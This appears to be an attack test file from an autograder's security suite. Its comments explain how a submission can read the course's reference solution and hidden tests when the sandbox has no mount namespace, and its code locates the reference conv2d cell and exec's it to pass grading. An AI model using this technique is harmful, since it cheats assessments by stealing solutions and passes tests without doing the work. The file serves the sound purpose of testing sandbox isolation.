# Attack: read the course's own source notebook (reference solution and hidden tests) where the sandbox
# runs without bubblewrap and without CAP_SYS_ADMIN, e.g. in the Gradescope zip (setup.sh installs no
# bubblewrap; Docker's default capabilities allow no unshare(CLONE_NEWNS)): then there is no mount
# namespace, so neither the allowlist nor the masks exist, and `nobody` can read the course root
# (/autograder/source on Gradescope) and .grader/keys. Reproduce here with
#   capsh --drop=cap_sys_admin -- -c "AUTOGRADER_NO_BWRAP=1 python -m autograder grade 04_cnn SUB --json"
# -> 22/22 with protections [cgroup-*, no-new-privs, rlimit-*, user-nobody] (no net-ns either). Under
# bubblewrap (how the test suite runs) it finds nothing and earns 16; the grader goes on grading in the
# degraded mode instead of refusing.
# threat: read the course's solution where the sandbox has no mount namespace
# score: 16
# never: USING
# %% conv2d
import glob, json
found = None
for path in glob.glob("/autograder/source/source/*/*.ipynb") + glob.glob("{root}/source/04_cnn/*.ipynb") + \
        glob.glob("{repo}/source/04_cnn/*.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError):
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if source.startswith("def conv2d"):
            exec(source, globals())
            found = path
            break
    if found:
        print("US" + "ING", found)
        break
if found is None:
    def conv2d(image, kernel, stride=1, padding="valid"):
        return [[0.0]]
